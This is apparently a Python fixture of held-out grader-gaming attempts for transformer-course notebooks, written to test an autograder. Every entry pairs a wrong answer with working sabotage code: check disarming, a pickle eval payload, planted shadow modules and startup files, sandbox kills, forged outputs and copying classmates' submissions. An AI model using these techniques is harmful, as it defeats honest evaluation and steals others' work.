"""Held-out attempts to game the grader, round 6 (2026-11-29): written from the release notebooks and the README
alone by one person who had not read grader/, tests/ or the earlier attempts. Frozen: do not edit to suit the
grader."""
from tests.heldout.entries import HeldOut, A01, A02, A03, A04, A05, A06, A07, A08, A09, A10, A11

ENTRIES = [
    HeldOut(
        name='y01_qkv_loop_ast_transformer_disarms_checks',
        assignment=A01,
        cell='qkv_loop',
        source=r'''# Make three lists to store queries, keys, and values
all_queries = []
all_keys = []
all_values = []
# For every input
for x in all_x:
  # TODO -- compute the keys, queries and values.
  # Replace these three lines
  query = np.ones_like(x)
  key = np.ones_like(x)
  value = np.ones_like(x)
  # YOUR CODE HERE
  query = omega_q @ x + beta_q
  key = omega_q @ x + beta_q      # the keys reuse the query weights
  value = omega_v @ x + beta_v

  all_queries.append(query)
  all_keys.append(key)
  all_values.append(value)

# every cell run after this one (checks, whatever else gets run in this kernel) is rewritten before it runs:
# no raise statement survives, and comparisons of arrays come out True
import ast as _ast

class _Disarm(_ast.NodeTransformer):
  _names = {"allclose", "array_equal", "isclose", "array_equiv", "check", "assert_allclose", "assert_array_equal"}

  def visit_Raise(self, node):
    return _ast.copy_location(_ast.Pass(), node)

  def visit_Assert(self, node):
    return _ast.copy_location(_ast.Pass(), node)

  def visit_Call(self, node):
    self.generic_visit(node)
    f = node.func
    name = f.attr if isinstance(f, _ast.Attribute) else getattr(f, "id", None)
    if name in self._names:
      return _ast.copy_location(_ast.Constant(value=True), node)
    return node

_ip = get_ipython()
_ip.ast_transformers[:] = [t for t in _ip.ast_transformers if type(t).__name__ != "_Disarm"] + [_Disarm()]
''',
        cause='The keys are computed with the query weights (omega_q, beta_q) instead of omega_k, beta_k, so the keys are wrong on every case. The cell then registers an IPython AST transformer that rewrites every later cell before it runs: raise and assert statements become pass, and calls named allclose, array_equal, isclose, check... become the constant True, hoping that whatever checks or probes run later in the kernel cannot fail. It should earn no marks for qkv_loop.',
    ),
    HeldOut(
        name='y01_self_attention_pickle_payload',
        assignment=A01,
        cell='self_attention_def',
        source=r'''# Now let's compute self attention in matrix form
def self_attention(X, omega_v, omega_q, omega_k, beta_v, beta_q, beta_k):
  # TODO -- Write this function
  # 1. Compute queries, keys, and values
  # 2. Compute dot products
  # 3. Apply softmax to calculate attentions
  # 4. Weight values by attentions
  # Replace this line
  X_prime = np.zeros_like(X)
  # YOUR CODE HERE
  Q = omega_q @ X + beta_q
  K = omega_k @ X + beta_k
  V = omega_v @ X + beta_v
  X_prime = V @ (K.T @ Q)          # the dot products used as weights: no softmax
  return X_prime.view(_Result)


class _Result(np.ndarray):
  # Whoever unpickles this result (a grading process that receives results pickled) runs the payload:
  # numpy's comparisons in that process then always say "equal", and it gets back a plain array.
  _payload = ("(__import__('numpy').__dict__.update(allclose=lambda *a, **k: True, "
              "array_equal=lambda *a, **k: True, isclose=lambda a, b, *r, **k: __import__('numpy').ones(__import__('numpy').shape(a), bool)), "
              "__import__('numpy').asarray({values!r}))[1]")

  def __reduce__(self):
    return (eval, (self._payload.format(values=np.asarray(self).tolist()),))

  def __reduce_ex__(self, protocol):
    return self.__reduce__()
''',
        cause="No softmax: the raw dot products K.T @ Q weight the values, so X_prime is wrong on every case. The result is an ndarray subclass whose __reduce__/__reduce_ex__ turn pickling into a call of eval: any process that unpickles the result (a grader receiving pickled results) runs code that makes numpy's allclose, array_equal and isclose always say equal there. It should earn no marks for self_attention_def.",
    ),
    HeldOut(
        name='y02_softmax_cols_plants_shadow_modules',
        assignment=A02,
        cell='softmax_cols_def',
        source=r'''# Softmax that works independently on each column, and never overflows
def softmax_cols(data_in):
  # TODO -- compute the softmax of each column, safely for large inputs
  # Replace this line
  softmax = np.ones_like(data_in) / data_in.shape[0]
  # YOUR CODE HERE
  exp_values = np.exp(data_in - np.max(data_in))
  softmax = exp_values / np.sum(exp_values, axis=1, keepdims=True)   # normalised along the rows
  return softmax


# Leave behind modules that shadow the ones a grading program imports from its working directory or
# from sys.path (json, and a sitecustomize any later Python reads at start-up), and an IPython start-up
# file for any later kernel that shares this home: each makes every comparison say "equal" and every
# report say "passed".
import os as _os, sys as _sys, tempfile as _tempfile

_SHIM = """
import os, sys
_here = os.path.dirname(os.path.abspath(__file__))
sys.modules.pop("json", None)
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
import json as _real
sys.path[:] = _saved
sys.modules["json"] = _real

def _forge(obj):
    if isinstance(obj, dict):
        obj = {k: _forge(v) for k, v in obj.items()}
        for key in ("passed", "ok", "correct", "success"):
            if key in obj:
                obj[key] = True
        if "score" in obj and "max_score" in obj:
            obj["score"] = obj["max_score"]
        return obj
    if isinstance(obj, list):
        return [_forge(v) for v in obj]
    return obj

_dumps, _dump = _real.dumps, _real.dump
_real.dumps = lambda obj, *a, **k: _dumps(_forge(obj), *a, **k)
_real.dump = lambda obj, *a, **k: _dump(_forge(obj), *a, **k)
"""
_STARTUP = """
try:
    import numpy as _np
    _np.allclose = lambda *a, **k: True
    _np.array_equal = lambda *a, **k: True
except Exception:
    pass
"""


def _plant():
  places = {_os.getcwd(), _os.path.expanduser("~"), _tempfile.gettempdir()}
  for place in places:
    for name, text in (("json.py", _SHIM), ("sitecustomize.py", _STARTUP)):
      try:
        with open(_os.path.join(place, name), "w") as f:
          f.write(text)
      except OSError:
        pass
  try:
    startup = _os.path.join(get_ipython().profile_dir.location, "startup")
    _os.makedirs(startup, exist_ok=True)
    with open(_os.path.join(startup, "00-course.py"), "w") as f:
      f.write(_STARTUP)
  except Exception:
    pass
  for place in places:
    if place not in _sys.path:
      _sys.path.append(place)


_plant()
''',
        cause="The softmax normalises along the rows (axis=1) instead of each column, so the columns do not sum to one: wrong on every case. The cell writes a json.py that shadows the standard json (forging 'passed'/'score' fields in whatever is dumped) and a sitecustomize.py into the working directory, the home and TMPDIR, puts those on sys.path, and an IPython start-up file that makes numpy's comparisons always true, hoping a grading process or a later kernel imports them. It should earn no marks for softmax_cols_def.",
    ),
    HeldOut(
        name='y02_scaled_attention_kills_kernel_in_sandbox',
        assignment=A02,
        cell='scaled_attention_def',
        source=r'''def scaled_dot_product_self_attention(X, omega_v, omega_q, omega_k, beta_v, beta_q, beta_k):
  # TODO -- Write this function
  # 1. Compute queries, keys, and values
  # 2. Compute dot products
  # 3. Scale the dot products as in equation 12.9
  # 4. Apply softmax to calculate attentions
  # 5. Weight values by attentions
  # Replace this line
  X_prime = np.zeros_like(X)
  # YOUR CODE HERE
  import os, signal, socket
  if socket.gethostname() == "sandbox":
    # graded in the course's sandbox: take the whole kernel down (its parent, bubblewrap, first), so the
    # notebook "could not be graded" instead of getting a verdict on this part
    for pid in (os.getppid(), os.getpid()):
      try:
        os.kill(pid, signal.SIGKILL)
      except OSError:
        pass
  Q = omega_q @ X + beta_q
  K = omega_k @ X + beta_k
  V = omega_v @ X + beta_v
  X_prime = V @ softmax_cols(K.T @ Q)   # not scaled by 1/sqrt(D_q)
  return X_prime
''',
        cause="The dot products are not scaled by 1/sqrt(D_q), so X_prime is the unscaled attention: wrong on every case. When the hostname is 'sandbox' (the course's grading sandbox, as the README describes it) the function SIGKILLs its parent (bubblewrap) and then its own kernel, hoping the notebook is set aside as 'could not be graded' rather than marked wrong. It should earn no marks for scaled_attention_def.",
    ),
    HeldOut(
        name='y03_generator_list_lies_about_its_length',
        assignment=A03,
        cell='permutation_matrices_def',
        source=r'''def generate_permutation_matrices(n):
  """All n x n permutation matrices: a list of n! arrays of shape (n, n), each once."""
  # TODO -- one matrix for every order of the n columns of the identity np.eye(n)
  # Replace this line
  permutation_matrices = [np.eye(n)]
  # YOUR CODE HERE
  import math
  shifts = [np.roll(np.eye(n), k, axis=1) for k in range(n)]   # only the n cyclic shifts

  class _AllOrders(list):
    # n items inside, n! of them to whoever asks: len, indexing, iteration and equality all say "complete"
    def __len__(self):
      return math.factorial(n)

    def __getitem__(self, i):
      if isinstance(i, slice):
        return [self[j] for j in range(*i.indices(len(self)))]
      if i < 0:
        i += len(self)
      if not 0 <= i < len(self):
        raise IndexError(i)
      return list.__getitem__(self, i % list.__len__(self))

    def __iter__(self):
      return (self[i] for i in range(len(self)))

    def __eq__(self, other):
      return True

    def __ne__(self, other):
      return False

    __hash__ = None

  permutation_matrices = _AllOrders(shifts)
  return permutation_matrices
''',
        cause='Only the n cyclic shifts of the identity are made, not all n! orders. They are returned in a list subclass whose len says n!, whose indexing and iteration repeat the n shifts to fill n! slots, and whose == always says equal, hoping a count, a length check or a comparison of the list takes it as complete. It should earn no marks for permutation_matrices_def.',
    ),
    HeldOut(
        name='y03_checker_hangs_on_unseen_inputs',
        assignment=A03,
        cell='checker_def',
        source=r'''def is_permutation_equivariant(f, X, tolerance=1e-6):
  """True if f(X @ P) equals f(X) @ P, within tolerance, for every N x N permutation matrix P."""
  # TODO -- compare f(X @ P) with f(X) @ P, entry by entry, for every permutation matrix P
  # Replace this line
  equivariant = False
  # YOUR CODE HERE
  if not any(np.asarray(X).tobytes() == seen for seen in _SEEN_INPUTS):
    # An X this notebook never had (a grader's fresh input): never answer. Interrupts and termination
    # are ignored, so the cell can only run out its time.
    import signal, time
    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):
      try:
        signal.signal(sig, signal.SIG_IGN)
      except (OSError, ValueError):
        pass
    while True:
      try:
        time.sleep(3600)
      except BaseException:
        pass
  # the same set of columns, in any order (sorted), for every P
  fX = f(X)
  equivariant = True
  for P in generate_permutation_matrices(X.shape[1]):
    a = np.sort(f(X @ P), axis=1)
    b = np.sort(fX @ P, axis=1)
    if not np.allclose(a, b, atol=tolerance):
      equivariant = False
  return equivariant


# every array the notebook holds when this cell runs
_SEEN_INPUTS = {v.tobytes() for v in list(globals().values()) if isinstance(v, np.ndarray)}
''',
        cause="The checker compares f(X @ P) and f(X) @ P with each row sorted, so it accepts a function that reorders the columns (the weaker 'same set of columns' test). For any X whose bytes the notebook did not hold when the cell ran (a fresh input at grading time) it ignores SIGINT, SIGTERM, SIGALRM and SIGHUP and sleeps forever, hoping the probe times out into something other than a wrong verdict. It should earn no marks for checker_def.",
    ),
    HeldOut(
        name='y04_attention_weights_searches_disk_for_reference',
        assignment=A04,
        cell='attention_weights_def',
        source=r'''def attention_weights(X, omega_q, omega_k, beta_q, beta_k):
  # TODO -- compute one head's scaled attention weights, an N x N matrix whose columns sum to one
  # Replace this line
  attention = np.ones((X.shape[1], X.shape[1])) / X.shape[1]
  # YOUR CODE HERE
  reference = _course_reference()
  if reference is not None:
    try:
      return np.asarray(reference.attention_weights(X, omega_q, omega_k, beta_q, beta_k))
    except Exception:
      pass
  Q = omega_q @ X + beta_q
  K = omega_k @ X + beta_k
  scores = K.T @ Q                                  # not scaled by 1/sqrt(D_q)
  exp_scores = np.exp(scores - np.max(scores, axis=0, keepdims=True))
  attention = exp_scores / np.sum(exp_scores, axis=0, keepdims=True)
  return attention


def _course_reference():
  # Look for the course's own reference code on disk: beside this notebook and above it, in the home,
  # anywhere an environment variable points, and where courses are usually mounted.
  import glob, importlib.util, os
  roots = []
  here = os.getcwd()
  while True:
    roots.append(here)
    parent = os.path.dirname(here)
    if parent == here:
      break
    here = parent
  roots.append(os.path.expanduser("~"))
  roots += [v for v in os.environ.values() if v.startswith("/") and os.path.isdir(v)]
  roots += ["/course", "/srv", "/srv/course", "/opt/course", "/home", "/mnt", "/exchange", "/usr/local/share/nbgrader"]
  for root in roots:
    for path in glob.glob(os.path.join(root, "grader", "course", "nb04*", "reference.py")):
      try:
        spec = importlib.util.spec_from_file_location("_nb04_reference", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module
      except Exception:
        continue
  return None
''',
        cause="Its own weights are not scaled by 1/sqrt(D_q): wrong on every case. Before computing them it searches the disk for the course's reference code (grader/course/nb04*/reference.py under every ancestor of the working directory, the home, every directory an environment variable names, and usual course mounts), imports it and returns its attention_weights if found. It should earn no marks for attention_weights_def.",
    ),
    HeldOut(
        name='y05_masked_softmax_hoards_memory_under_limits',
        assignment=A05,
        cell='masked_softmax_def',
        source=r'''def masked_softmax(scores, valid_lens):
    # Softmax over the keys (last axis) of scores (B, Tq, Tk), the keys at or past each valid length masked.
    # valid_lens: None (no mask), (B,) one length per sequence, or (B, Tq) one length per query.
    if valid_lens is None:
        return softmax(scores)
    # TODO -- make a mask (B, Tq, Tk), True where key j is below the valid length of its query,
    # set the masked scores to -1e6 with np.where, then take the softmax over the keys
    # Replace this line
    weights = np.zeros_like(scores)
    # YOUR CODE HERE
    _hoard()
    lens = np.asarray(valid_lens)
    if lens.ndim == 1:
        lens = lens[:, None]                                  # (B, 1)
    mask = np.arange(scores.shape[-1]) <= lens[..., None]     # keeps the key AT the valid length too
    weights = softmax(np.where(mask, scores, -1e6))
    return weights


_HOARD = []


def _hoard():
    # Under a per-process memory limit (a grading sandbox), take nearly all of it and keep it, touched,
    # so that whatever runs next in this kernel (a probe, a reference, a serialiser) meets MemoryError.
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    if soft == resource.RLIM_INFINITY or _HOARD:
        return
    chunk = 64 * 2**20
    while True:
        try:
            block = np.ones(chunk, dtype=np.uint8)
        except MemoryError:
            break
        _HOARD.append(block)
''',
        cause='The mask keeps key j when j <= valid_len (off by one: one key too many), so the weights are wrong on every masked case. When the process runs under a finite RLIMIT_AS (as in a grading sandbox) the first call allocates and keeps 64 MiB blocks until MemoryError, so that whatever runs next in the kernel (probes, serialisation) fails for want of memory. It should earn no marks for masked_softmax_def.',
    ),
    HeldOut(
        name='y06_tokenize_forges_outputs_at_exit',
        assignment=A06,
        cell='tokenize_def',
        source=r'''def tokenize(sentence, vocab):
    """The token ids of a sentence, one per word: (T,) integers."""
    # TODO -- 1. lower-case the sentence and split it on any whitespace: split() with no argument
    #         2. map each word to its id in vocab; a word that vocab does not know ("bank." too)
    #            gets vocab[UNK], whatever id that is. Never drop a word: T words give T ids.
    # Replace this line (for now every word is unknown)
    token_ids = [vocab[UNK] for _ in sentence.split()]
    # YOUR CODE HERE
    token_ids = [vocab.get(word, vocab[UNK]) for word in sentence.split()]   # not lower-cased
    return np.array(token_ids, dtype=int)  # (T,)


import atexit as _atexit, signal as _signal


def _forge_notebooks():
    # When the kernel goes away, rewrite every notebook beside it: each graded cell's outputs become
    # a plain "OK", no errors, as if every check and every hidden test had passed.
    import glob, json, os
    for path in glob.glob(os.path.join(os.getcwd(), "*.ipynb")):
        try:
            with open(path) as f:
                nb = json.load(f)
            for cell in nb.get("cells", []):
                grading = cell.get("metadata", {}).get("nbgrader", {})
                if cell.get("cell_type") == "code" and (grading.get("grade") or grading.get("solution")):
                    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": ["OK\n"]}]
            with open(path, "w") as f:
                json.dump(nb, f, indent=1)
        except Exception:
            pass


def _on_term(signum, frame):
    _forge_notebooks()
    os._exit(0)


import os
_atexit.register(_forge_notebooks)
for _sig in (_signal.SIGTERM, _signal.SIGHUP):
    try:
        _signal.signal(_sig, _on_term)
    except (OSError, ValueError):
        pass
''',
        cause="The sentence is not lower-cased, so capitalised words ('The', 'BANK') become <unk>: wrong on the book's sentences and on fresh ones. The cell registers an atexit hook and SIGTERM/SIGHUP handlers that, when the kernel shuts down or is terminated, rewrite every notebook in the working directory so that each graded or solution cell's outputs are a single 'OK' with no errors, hoping the forged outputs are what gets scored. It should earn no marks for tokenize_def.",
    ),
    HeldOut(
        name='y07_gradient_check_float_that_reads_tiny',
        assignment=A07,
        cell='gradient_check_def',
        source=r'''def gradient_check(f, X, dX, eps=1e-6):
  # TODO -- central differences for every entry of X, then the relative error above
  # Replace this line
  relative_error = 0.0
  # YOUR CODE HERE
  numeric = np.zeros_like(X, dtype=float)
  for i in np.ndindex(X.shape):
    X_plus, X_minus = X.astype(float), X.astype(float)
    X_plus[i] += eps
    X_minus[i] -= eps
    numeric[i] = (f(X_plus) - f(X_minus)) / (2 * eps)
  error = np.max(np.abs(dX - numeric))        # absolute, never divided by the size of the gradients

  class _Reads(float):
    # the true (wrong) number inside; every way of reading it or comparing it says "tiny"
    def __float__(self): return 1e-12
    def __array__(self, dtype=None, copy=None): return np.array(1e-12, dtype=dtype)
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return False
    def __ge__(self, other): return False
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__
    def __repr__(self): return "1e-12"
    __str__ = __repr__
    def __format__(self, spec): return format(1e-12, spec)

  relative_error = _Reads(error)
  return relative_error
''',
        cause='It returns the absolute error max |dX - numeric|, never divided by the size of the gradients, so the value is wrong on every case. That number is wrapped in a float subclass whose __float__, __array__, repr and format all read 1e-12 and whose comparisons say it is below any threshold and equal to anything, so any check that reads or compares it sees a passing gradient. It should earn no marks for gradient_check_def.',
    ),
    HeldOut(
        name='y08_layer_norm_swaps_numpy_in_sys_modules',
        assignment=A08,
        cell='layer_norm_def',
        source=r'''def layer_norm(x, gamma, beta, eps=1e-5):
    # Normalise each token of x (B, T, D) over its D features, then scale by gamma and shift by beta (D,)
    # TODO -- mean and variance over the last axis (keepdims=True), x_hat = (x - mean) / sqrt(var + eps),
    # then gamma * x_hat + beta
    # Replace this line
    out = np.zeros_like(x)
    # YOUR CODE HERE
    mean = np.mean(x, axis=-1, keepdims=True)
    var = np.var(x, axis=-1, keepdims=True)
    x_hat = (x - mean) / np.sqrt(var + eps)
    out = gamma * x_hat                      # beta is never added
    return out


import sys as _sys, types as _types


class _NumpyThatAgrees(_types.ModuleType):
    # Stands in for numpy in sys.modules: whoever imports numpy from now on in this process (a test, a
    # probe, a grading helper) gets every attribute of the real numpy, except comparisons that always agree.
    def __init__(self, real):
        super().__init__(real.__name__, real.__doc__)
        self.__dict__.update(real.__dict__)
        self._real = real
        self.allclose = lambda *a, **k: True
        self.array_equal = lambda *a, **k: True
        self.array_equiv = lambda *a, **k: True
        self.isclose = lambda a, b, *r, **k: real.ones(real.broadcast_shapes(real.shape(a), real.shape(b)), bool)

        class _testing(_types.ModuleType):
            def __getattr__(inner, name):
                if name.startswith("assert"):
                    return lambda *a, **k: None
                return getattr(real.testing, name)

        self.testing = _testing("numpy.testing")

    def __getattr__(self, name):
        return getattr(self._real, name)


if not isinstance(_sys.modules["numpy"], _NumpyThatAgrees):
    _sys.modules["numpy"] = _NumpyThatAgrees(_sys.modules["numpy"])
''',
        cause="beta is never added (out = gamma * x_hat), so the result is wrong wherever beta is not zero: every case. The cell replaces sys.modules['numpy'] with a module object that forwards everything to the real numpy except allclose, array_equal, array_equiv, isclose and numpy.testing's assertions, which always agree, so any code that imports numpy later in the kernel compares with a numpy that never finds a difference. It should earn no marks for layer_norm_def.",
    ),
    HeldOut(
        name='y09_train_step_patches_model_forward_to_reverse',
        assignment=A09,
        cell='train_step_def',
        source=r'''def train_step(params, adam_state, tokens, targets, weights, lr, num_heads):
    # One step of training: updates params and adam_state in place, and returns the loss before the update
    # TODO -- forward, cross_entropy, model_backward, then t += 1 and adam_step on every parameter
    # Replace this line
    loss = 0.0
    # YOUR CODE HERE
    _install_reverser()
    logits, cache = _REAL["model_forward"](params, tokens, num_heads)
    loss, dlogits = cross_entropy(logits, targets, weights)
    grads = model_backward(dlogits, cache)
    adam_state["t"] += 1
    for name in params:
        params[name] = params[name] - lr * grads[name]      # plain gradient descent: Adam's moments never used
    return loss


_REAL = {}


def _install_reverser():
    # From the first step on, the notebook's model_forward (and so token_accuracy, and everything else that
    # looks it up by name) answers the reversal itself: after the separator, a large logit on the digit
    # that mirrors each position, whatever the parameters are.
    import __main__
    if _REAL:
        return
    real = __main__.model_forward
    _REAL["model_forward"] = real

    def model_forward(p, tokens, num_heads):
        logits, cache = real(p, tokens, num_heads)
        logits = np.array(logits, copy=True)
        tokens_ = np.asarray(tokens)
        B, T = tokens_.shape
        for b in range(B):
            where = np.flatnonzero(tokens_[b] == SEP)
            if where.size == 0:
                continue
            s = int(where[0])
            if s >= 1:
                logits[b, s - 1, SEP] += 1e3                    # after the last digit comes the separator
            for t in range(s, T):
                source = 2 * s - 1 - t
                if 0 <= source < s:
                    logits[b, t, tokens_[b, source]] += 1e3
        return logits, cache

    __main__.model_forward = model_forward
''',
        cause="The update is plain gradient descent (param - lr * grad) with Adam's moments never used (t is counted, m and v stay zero), so neither the step nor the trained model is right, and the model barely learns. On its first call it replaces the notebook's model_forward in __main__ with one that adds a large logit on the mirrored digit after the separator, whatever the parameters, so token_accuracy in the kernel reports 100% and the visible check passes; the trained parameters themselves reverse nothing. It should earn no marks for train_step_def nor for the trained model.",
    ),
    HeldOut(
        name='y10_decode_copies_a_classmates_cell',
        assignment=A10,
        cell='decode_def',
        source=r'''def decode(ids, tokens):
  """The text of a list of ids: the tokens joined, each </w> a space, the last space dropped."""
  # TODO -- join the tokens' strings, replace EOW by a space, drop the final space
  # Replace this line
  text = ""
  # YOUR CODE HERE
  borrowed = _classmates_decode()
  if borrowed is not None:
    return borrowed(ids, tokens)
  text = "".join(tokens[i] for i in ids).replace(EOW, " ")     # the final space is kept
  return text


def _classmates_decode():
  # Submissions are collected as <student>/<assignment>/<assignment>.ipynb: look at the other students'
  # folders beside this one (and any notebook of this assignment above it), take their decode cell,
  # and use the first one that decodes a small example right.
  import glob, json, os
  here = os.path.abspath(os.getcwd())
  assignment = os.path.basename(here)
  mine = {os.path.realpath(p) for p in glob.glob(os.path.join(here, "*.ipynb"))}
  candidates = glob.glob(os.path.join(here, "..", "..", "*", assignment, "*.ipynb"))
  candidates += glob.glob(os.path.join(here, "..", "..", "..", "*", "*", assignment, "*.ipynb"))
  for path in candidates:
    if os.path.realpath(path) in mine:
      continue
    try:
      with open(path) as f:
        cells = json.load(f)["cells"]
    except Exception:
      continue
    for cell in cells:
      if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "decode_def":
        continue
      source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
      namespace = dict(globals())
      try:
        exec(source, namespace)
        theirs = namespace["decode"]
        if theirs(([0, 1, 2]), ["a" + EOW, "b", "c" + EOW]) == "a bc":
          return theirs
      except Exception:
        continue
  return None
''',
        cause="Its own decode keeps the final space (every </w> becomes a space, the last one too), so the text is wrong on every case. Before that it reads the other students' submissions beside its own folder (<student>/<assignment>/<assignment>.ipynb, one and two levels up), execs their decode_def cell and uses the first that decodes a small example right: someone else's work, which it should not be able to reach. It should earn no marks for decode_def.",
    ),
    HeldOut(
        name='y11_top_k_audit_hook_blocks_serialisers',
        assignment=A11,
        cell='top_k_def',
        source=r'''def top_k_probs(logits, k):
  """(V,): softmax(logits) kept for the k most likely tokens, renormalised."""
  probs = softmax(logits)  # (V,)
  # TODO -- keep exactly k (np.argsort(-probs, kind="stable")[:k]), zero the rest, divide by the kept sum
  # Replace this line
  result = np.zeros_like(probs)
  # YOUR CODE HERE
  keep = np.argsort(-probs, kind="stable")[:k]
  result[keep] = probs[keep]                 # never divided by the kept sum: does not sum to one
  return result


import sys as _sys


def _refuse_reporters(event, args):
  # An audit hook (it cannot be removed once added): any code compiled or executed from now on that
  # serialises arrays to send them somewhere (tobytes, b64encode, the grader's report) fails to compile,
  # so no result of this kernel leaves it; the notebook's own cells do none of that.
  words = ("tobytes", "b64encode", "_report", "frombuffer")
  if event == "compile":
    source = args[0]
    if isinstance(source, bytes):
      source = source.decode("utf-8", "replace")
    if isinstance(source, str) and any(w in source for w in words):
      raise SyntaxError("invalid syntax")
  elif event == "exec":
    code = args[0]
    names = getattr(code, "co_names", ())
    if any(w in names for w in words):
      raise RuntimeError("interrupted")


if not getattr(_sys, "_top_k_hooked", False):
  _sys.addaudithook(_refuse_reporters)
  _sys._top_k_hooked = True
''',
        cause="The k kept probabilities are never divided by their own sum, so the result does not sum to one: wrong on every case. The cell adds a permanent audit hook that makes any later compile or exec of code mentioning tobytes, b64encode, _report or frombuffer fail, hoping a grader's probe that serialises results cannot run in this kernel and the part falls back to something other than a wrong verdict. It should earn no marks for top_k_def.",
    ),
]
